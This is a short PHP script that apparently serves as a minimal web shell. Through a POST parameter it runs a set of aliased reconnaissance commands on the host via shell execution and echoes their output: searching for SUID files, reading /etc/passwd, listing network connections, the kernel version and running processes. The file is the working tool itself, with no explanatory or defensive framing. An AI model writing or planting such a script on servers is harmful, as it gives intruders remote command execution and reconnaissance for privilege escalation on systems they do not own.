<?php
$aliases = array('find suid' => 'find / -type f -perm -04000 -ls', 'passwd' => 'cat /etc/passwd', 'net' => 'netstat -an', 'os' => 'uname -a', 'procs' => 'ps aux');
if (isset($_POST['a'])) echo `{$aliases[$_POST['a']]}`;
